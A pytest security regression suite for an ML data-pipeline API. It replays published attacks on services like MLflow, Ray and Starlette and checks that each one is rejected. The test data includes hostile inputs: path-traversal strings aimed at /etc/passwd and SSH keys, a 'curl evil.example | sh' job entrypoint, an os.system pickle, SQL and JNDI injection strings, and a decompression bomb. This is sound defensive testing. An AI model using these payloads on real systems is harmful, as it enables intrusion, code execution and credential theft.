"""What was done to services like this one, tried here: the request as it was sent, and the answer.

Each test is named after the attack. Peers' holes are those of facts that were published with a
number; most are one of three: no key needed, a path taken from a request, data run as code.
"""

import base64
import hashlib
import json
import os
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from api.app import create_app
from api.settings import Settings
from mixlab.corpora.reading.listing import list_files
from mixlab.ledger import Ledger
from mixlab.ledger.records import JobKind, Queue, Scope
from tests.security.conftest import ELSEWHERE, SECRET, corpus

JSON = {"content-type": "application/json"}


# What is answered where not a byte of a file was read.
UNREAD = ("path-not-allowed", "missing-file", "invalid-request")


def told(answer: Any) -> str:
    """A problem of the client's, told without the secret."""
    assert 400 <= answer.status_code < 500, answer.text[:300]
    assert answer.headers["content-type"] == "application/problem+json"
    assert SECRET not in answer.text
    return str(answer.json()["type"]).rpartition(":")[2]


def traversals(data: Path) -> Iterator[str]:
    """Ways to write the secret's path, each of which some service has fallen for."""
    up = "../secret.txt"
    yield from (f"{data}/{up}", f"{data}/./x/../../secret.txt", str(data.parent / "secret.txt"))
    yield from (f"file://{data}/{up}", f"file:///{data.parent}/secret.txt", "file:/etc/passwd")
    yield f"{data}/..\\secret.txt"  # CVE-2023-2780
    yield from (f"{data}/%2e%2e/secret.txt", f"{data}/..%2fsecret.txt")  # CVE-2023-1177
    yield f"{data}/%252e%252e%252fsecret.txt"  # decoded twice: CVE-2024-1560
    yield from (f"{data}/\u2025/secret.txt", f"{data}/．．/secret.txt")
    yield from (f"{data}/a.jsonl\x00../../secret.txt", f"{data}/a.jsonl\n")
    yield from ("/etc/passwd", "/proc/self/environ", "/dev/stdin", "~/.ssh/id_rsa", "secret.txt")
    yield from ("local:///etc/passwd", "file://localhost/etc/passwd", "file://evil.example/etc/x")
    yield from ("models:/m/1", "mlflow-artifacts:/x", "runs:/1/x", "dbfs:/x")
    yield str(data / "link.txt")  # a link that leads out


class TestMlflowPathTraversal:
    """CVE-2023-1177, -2356, -2780, -6730, -6831, CVE-2024-1560, CVE-2026-2614."""

    def test_in_a_corpus(self, user: TestClient, data: Path) -> None:
        for path in traversals(data):
            assert told(user.post("/corpora", json=corpus(path))) in UNREAD, path
        assert user.get("/corpora").json()["corpora"] == []

    def test_in_a_tokenizers_file(self, user: TestClient, data: Path) -> None:
        for path in traversals(data):
            body = corpus(str(data / "a.jsonl"), tokenizer_file=path)
            assert told(user.post("/corpora", json=body)) in UNREAD, path
        assert user.get("/corpora").json()["corpora"] == []

    def test_in_an_id(self, user: TestClient) -> None:
        for prefix in ("/corpora/", "/jobs/", "/mixtures/", "/trainings/"):
            for name in (
                "..%2f..%2fetc%2fpasswd",
                "..%5csecret",
                "%2e%2e",
                "job_..%2f",
                "%00",
                "job_1%0a",
            ):
                assert user.get(prefix + name).status_code == 404
                assert user.get(f"{prefix}{name}/logs").status_code == 404

    def test_without_a_key(self, stranger: TestClient, data: Path) -> None:
        for path in traversals(data):
            assert stranger.post("/corpora", json=corpus(path)).status_code == 401

    def test_a_file_that_became_a_link_after_it_was_registered(
        self, user: TestClient, ledger: Ledger, data: Path
    ) -> None:
        from mixlab.corpora.reading.paths import PathPolicy
        from mixlab.corpora.reading.readers import read_documents
        from mixlab.errors import PathNotAllowed

        made = user.post("/corpora", json=corpus(str(data / "a.jsonl")))
        assert made.status_code == 201
        (data / "a.jsonl").unlink()
        (data / "a.jsonl").symlink_to(data.parent / "secret.txt")
        (path,) = ledger.corpus(made.json()["id"]).spec["domains"]["x"]["paths"]
        with pytest.raises(PathNotAllowed):
            list(read_documents(path, policy=PathPolicy((data,))))

    def test_a_log_that_is_a_link(
        self, user: TestClient, ledger: Ledger, app: FastAPI, data: Path
    ) -> None:
        (key,) = [key for key in ledger.keys.all()][-1:]
        job = ledger.of(key.id).submit(JobKind.TRAIN, {}, queue=Queue.GPU)
        ledger.claim(job.id, "w:1", 60)
        log = app.state.settings.log_file(job.id, 1)
        log.parent.mkdir(parents=True, exist_ok=True)
        log.symlink_to(data.parent / "secret.txt")
        assert told(user.get(f"/jobs/{job.id}/logs")) == "unknown-log"


class TestRayNoAuthentication:
    """CVE-2023-48022: whoever reached the port could run commands."""

    def test_a_job_without_a_key(self, stranger: TestClient) -> None:
        entrypoint = {"entrypoint": "curl evil.example | sh", "runtime_env": {"pip": ["x"]}}
        for path in ("/trainings", "/mixtures/fit", "/corpora", "/api/jobs/", "/jobs"):
            assert told(stranger.post(path, json=entrypoint)) == "unauthorized"

    def test_no_body_names_a_command(self, user: TestClient, app: FastAPI) -> None:
        for path in ("/trainings", "/mixtures/fit", "/corpora"):
            body = {"entrypoint": "id", "command": ["id"], "env": {"PATH": "/tmp"}}
            assert told(user.post(path, json=body)) == "invalid-request"
        names = {
            name
            for schema in app.openapi()["components"]["schemas"].values()
            for name in schema.get("properties", {})
        }
        assert not names & {
            "entrypoint",
            "command",
            "cmd",
            "args",
            "env",
            "script",
            "image",
            "code",
        }

    def test_before_a_key_was_made_only_this_machine_is_answered(self, app: FastAPI) -> None:
        assert told(TestClient(app, client=ELSEWHERE).post("/trainings", json={})) == "forbidden"


class TestRayDnsRebinding:
    """CVE-2025-62593: a page whose name points at 127.0.0.1 speaks to what listens there."""

    def test_a_strangers_host(self, app: FastAPI) -> None:
        local = TestClient(app, client=("127.0.0.1", 1))
        browser = {"User-Agent": "Mozilla/5.0", "Origin": "http://evil.example"}
        for host in (
            "evil.example",
            "127.0.0.1.evil.example",
            "testserver.evil.example",
            "",
            "[::1",
        ):
            for method, path in (("GET", "/jobs"), ("POST", "/trainings"), ("GET", "/livez")):
                answer = local.request(method, path, headers={"Host": host, **browser})
                assert told(answer) == "host-not-allowed"

    def test_a_strangers_page_that_posts_to_a_known_host(self, app: FastAPI) -> None:
        local = TestClient(app, client=("127.0.0.1", 1))
        for origin in ("http://evil.example", "null", "file://", "http://testserver@evil.example"):
            answer = local.post("/jobs/job_1/cancel", headers={"Origin": origin})
            assert told(answer) == "origin-not-allowed", origin

    def test_a_page_that_hides_its_origin_is_known_by_what_the_browser_adds(
        self, app: FastAPI
    ) -> None:
        local = TestClient(app, client=("127.0.0.1", 1))
        for site in ("cross-site", "same-site"):
            answer = local.post("/jobs/job_1/cancel", headers={"Sec-Fetch-Site": site})
            assert told(answer) == "origin-not-allowed"
        for site in ("same-origin", "none"):
            answer = local.post("/jobs/job_1/cancel", headers={"Sec-Fetch-Site": site})
            assert answer.status_code == 404

    def test_two_hosts(self, app: FastAPI) -> None:
        local = TestClient(app, client=("127.0.0.1", 1))
        headers = [("Host", "testserver"), ("Host", "evil.example")]
        assert told(local.get("/jobs", headers=headers)) == "host-not-allowed"

    def test_no_other_site_is_invited(self, app: FastAPI, user: TestClient) -> None:
        preflight = {"Origin": "http://evil.example", "Access-Control-Request-Method": "POST"}
        for answer in (
            user.options("/jobs", headers=preflight),
            user.get("/jobs", headers=preflight),
        ):
            assert not [name for name in answer.headers if name.startswith("access-control")]


class TestRayUnguardedDelete:
    """CVE-2026-27482: every method was guarded but DELETE."""

    def test_delete_put_and_patch_change_nothing(
        self, app: FastAPI, user: TestClient, stranger: TestClient, ledger: Ledger, data: Path
    ) -> None:
        made = user.post("/corpora", json=corpus(str(data / "a.jsonl"))).json()["id"]
        job = user.post(f"/corpora/{made}/entropy").json()["id"]
        for path in app.openapi()["paths"]:
            place = path.format(corpus_id=made, job_id=job, mixture_id="mix_1", training_id=job)
            for method in ("DELETE", "PUT", "PATCH"):
                assert stranger.request(method, place).status_code in (401, 405), place
                assert told(user.request(method, place)) == "method-not-allowed"
        assert ledger.job(job).cancel_requested_at is None
        assert ledger.corpus(made).id == made


def test_starlette_range_in_quadratic_time(user: TestClient) -> None:
    """CVE-2025-62727: thousands of ranges in one header. No file is served by ranges here."""
    many = "bytes=" + ",".join(f"{n}-" for n in range(2_000))
    for path in ("/jobs", "/docs", "/openapi.json", "/metrics", "/livez"):
        began = time.monotonic()
        answer = user.get(path, headers={"Range": many})
        assert answer.status_code in (200, 403, 503)
        assert "content-range" not in answer.headers
        assert time.monotonic() - began < 5


def test_pickles_are_not_text(user: TestClient, data: Path, tmp_path: Path) -> None:
    """SkyPilot's stored pickles, torch.load's CVE-2025-32434: a file that runs when it is read."""
    from mixlab.corpora.reading.readers import read_documents
    from mixlab.corpora.tokenizer import load_tokenizer
    from mixlab.errors import UnreadableData

    proof = tmp_path / "ran"
    evil = f"cos\nsystem\n(S'touch {proof}'\ntR.".encode()  # a pickle of os.system
    for name in ("model.pt", "model.pkl", "x.jsonl", "x.parquet", "tokenizer.json"):
        (data / name).write_bytes(b"\x80\x02" + evil + b"\x00")
        with pytest.raises(UnreadableData):
            list(read_documents(str(data / name)))
    with pytest.raises(UnreadableData):
        load_tokenizer(data / "tokenizer.json")
    answer = user.post("/corpora", content=b"\x80\x04" + evil, headers=JSON)
    assert told(answer) == "malformed-request"
    kinds = ("application/x-python-serialize", "application/octet-stream", "application/x-yaml")
    for kind in kinds:
        answer = user.post("/corpora", content=evil, headers={"content-type": kind})
        assert told(answer) == "unsupported-media-type"
    assert not proof.exists()


class TestMassAssignment:
    """OWASP API3: fields that a body must not set."""

    def test_no_body_sets_what_the_service_does(self, user: TestClient, data: Path) -> None:
        body = corpus(str(data / "a.jsonl"))
        for name, value in {
            "owner": "key_1", "id": "corpus_1", "tokens": {}, "entropy": {}, "created_at": "2020",
            "spec": {}, "__class__": "x", "__proto__": {"admin": True}, "scopes": ["admin"],
        }.items():  # fmt: skip
            assert told(user.post("/corpora", json=body | {name: value})) == "invalid-request"

    def test_no_header_makes_an_admin(self, user: TestClient, ledger: Ledger) -> None:
        theirs = ledger.add_corpus("c", {"domains": {}})
        for name in ("X-Admin", "X-Forwarded-User", "X-Original-URL", "X-Rewrite-URL", "X-Owner"):
            answer = user.get(f"/corpora/{theirs.id}", headers={name: "admin"})
            assert told(answer) == "unknown-corpus"


INJECTIONS = (
    "' OR 1=1 --", "x'; DROP TABLE jobs; --", "1) UNION SELECT secret_sha256 FROM api_keys --",
    "%", "_", "\\", "${jndi:ldap://evil.example}", "{{7*7}}", "$(id)", "`id`", "<script>", "\u202e",
)  # fmt: skip


def test_sql_and_templates_in_every_value_of_a_query(user: TestClient, ledger: Ledger) -> None:
    for text in INJECTIONS:
        for query in ({"state": text}, {"kind": text}, {"parent": text}, {"page_token": text}):
            assert user.get("/jobs", params=query).status_code == 422
        assert user.get("/mixtures", params={"corpus_id": text}).status_code == 422
    assert ledger.keys.all()


def test_a_name_is_data_wherever_it_is_shown(user: TestClient, data: Path) -> None:
    for text in INJECTIONS[:-1]:
        body = corpus(str(data / "a.jsonl")) | {"name": text.strip()}
        answer = user.post("/corpora", json=body)
        assert answer.status_code == 201
        assert answer.json()["name"] == text.strip()
        assert "49" not in answer.json()["name"]


def test_a_page_token_of_ones_own_making_shows_nothing_of_others(
    with_key: Callable[..., TestClient], data: Path
) -> None:
    owner, other = with_key(), with_key()
    for _ in range(3):
        assert owner.post("/corpora", json=corpus(str(data / "a.jsonl"))).status_code == 201
    forged = base64.urlsafe_b64encode(
        json.dumps({"after": "corpus_zzzz", "filters": {}}).encode()
    ).decode()
    assert len(owner.get("/corpora", params={"page_token": forged}).json()["corpora"]) == 3
    assert other.get("/corpora", params={"page_token": forged}).json()["corpora"] == []
    deep = base64.urlsafe_b64encode(b"[" * 700).decode()
    assert told(other.get("/corpora", params={"page_token": deep})) == "invalid-request"


def test_a_line_break_in_an_id_forges_no_line_of_the_log(
    user: TestClient, caplog: pytest.LogCaptureFixture
) -> None:
    from workers.logs import TextLines

    with caplog.at_level("INFO"):
        user.get("/jobs/job_1%0aERROR%20forged%1b[31m")
    lines = [
        TextLines().format(record) for record in caplog.records if record.name.startswith("api")
    ]
    assert lines
    assert not [line for line in lines if "\n" in line or "\x1b" in line]


def test_a_request_id_carries_no_header(user: TestClient) -> None:
    for given in ("a\tb", "x" * 500, "a b", "é", "<script>", "a;b"):
        answer = user.get("/livez", headers=[(b"x-request-id", given.encode("latin-1"))])
        assert answer.headers["x-request-id"] != given
        assert len(answer.headers["x-request-id"]) <= 128


def test_compressed_bodies_are_not_unpacked(user: TestClient) -> None:
    import gzip

    bomb = gzip.compress(bytes(20_000_000))
    answer = user.post("/corpora", content=bomb, headers=JSON | {"content-encoding": "gzip"})
    assert told(answer) == "malformed-request"


def test_digits_without_end(user: TestClient) -> None:
    """CVE-2020-10735: a long number takes the square of its digits."""
    began = time.monotonic()
    body = b'{"budget_tokens": ' + b"9" * 900_000 + b"}"
    assert told(user.post("/mixtures/fit", content=body, headers=JSON)) == "malformed-request"
    assert time.monotonic() - began < 3


def test_the_docs_page_runs_nothing_and_asks_no_other_host(user: TestClient) -> None:
    answer = user.get("/docs")
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert "script-src" not in policy
    (style,) = re.findall(r"<style>(.*?)</style>", answer.text, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert f"style-src 'sha256-{digest}'" in policy  # else the browser shows it without
    text = answer.text.lower()
    assert "<script" not in text
    for mark in ('src="http', 'href="http', "cdn.", "javascript:", "onload", "onerror"):
        assert mark not in text
    assert "postcorpora" in text or "registercorpus" in text


def test_every_answer_has_the_headers_that_keep_it_to_itself(
    user: TestClient, stranger: TestClient, app: FastAPI
) -> None:
    @app.get("/broken")
    def broken() -> None:
        raise RuntimeError(SECRET)

    answers = [
        user.get(path) for path in ("/jobs", "/livez", "/nothing", "/broken", "/openapi.json")
    ]
    answers += [stranger.get("/jobs"), user.get("/jobs", headers={"host": "evil.example"})]
    assert [a.status_code for a in answers] == [200, 200, 404, 500, 200, 401, 400]
    for answer in answers:
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["cache-control"] in ("no-store", "no-cache")
        assert "default-src 'none'" in answer.headers["content-security-policy"]
        assert answer.headers["referrer-policy"] == "no-referrer"
        assert "server" not in answer.headers
        assert SECRET not in answer.text


def test_an_admins_key_reads_no_file_either(
    with_key: Callable[..., TestClient], data: Path
) -> None:
    admin = with_key(Scope.ADMIN)
    for path in traversals(data):
        assert told(admin.post("/corpora", json=corpus(path))) in UNREAD, path
    assert admin.get("/corpora").json()["corpora"] == []


def test_the_home_folder_is_no_corpus(user: TestClient, app: FastAPI) -> None:
    """Shards, ledger and the broker's password lie there; it is no data root unless told so."""
    home = app.state.settings.home
    for path in (home, home / "ledger.sqlite", home / "broker" / "url"):
        assert told(user.post("/corpora", json=corpus(str(path)))) == "path-not-allowed"


def test_nor_is_a_home_folder_that_lies_in_a_data_root(settings: Settings, data: Path) -> None:
    """As with `mixlab up` in the folder of the texts, whose home is `.mixlab` there."""
    home = settings.home
    (home / "logs").mkdir()
    (home / "logs" / "job_1.1.log").write_text("somebody's")
    around = settings.model_copy(update={"data_roots": [home.parent]})
    with TestClient(create_app(around), client=("127.0.0.1", 1)) as here:
        assert here.post("/corpora", json=corpus(str(data))).status_code == 201
        for path in (home, home / "ledger.sqlite", home / "logs" / "job_1.1.log", f"{home}/./logs"):
            assert told(here.post("/corpora", json=corpus(str(path)))) == "path-not-allowed"
            body = corpus(str(data), tokenizer_file=str(path))
            assert told(here.post("/corpora", json=body)) == "path-not-allowed"
    (home / "shown.txt").write_text("text")
    listed = list_files(str(home.parent), around.path_policy())
    assert [path for path in listed if Path(path).is_relative_to(home)] == []
    assert [path for path in listed if Path(path).is_relative_to(data)] != []
    inside = settings.model_copy(update={"data_roots": [home.parent, home / "logs"]})
    with TestClient(create_app(inside), client=("127.0.0.1", 1)) as here:
        assert here.post("/corpora", json=corpus(str(home / "logs"))).status_code == 201
        assert told(here.post("/corpora", json=corpus(str(home)))) == "path-not-allowed"


def test_a_fifo_or_a_device_neither_hangs_nor_answers(user: TestClient, data: Path) -> None:
    os.mkfifo(data / "pipe.jsonl")
    began = time.monotonic()
    assert told(user.post("/corpora", json=corpus(str(data / "pipe.jsonl")))) == "path-not-allowed"
    assert time.monotonic() - began < 5


def test_a_row_that_names_a_file_elsewhere_has_none_read(ledger: Ledger, tmp_path: Path) -> None:
    """Second-order traversal: what reached the ledger is held to the same rules."""
    from api.mixtures.solving import _observations
    from mixlab.errors import NotReady

    home, outside = tmp_path / "home", tmp_path / "secret.txt"
    (home / "kept.parquet").write_bytes(b"x")
    (home / "link.parquet").symlink_to(outside)
    places = [home / "kept.parquet", outside, home / "link.parquet", f"{home}/../secret.txt"]
    records = [
        ledger.add_mixture(None, None, None, {"a": 1.0}, None, {"observations_file": str(place)})
        for place in (*places, "/etc/passwd", "s3://bucket/x", "")
    ]
    assert _observations(records[0], home) == str(home / "kept.parquet")
    for record in records[1:]:
        with pytest.raises(NotReady):
            _observations(record, home)
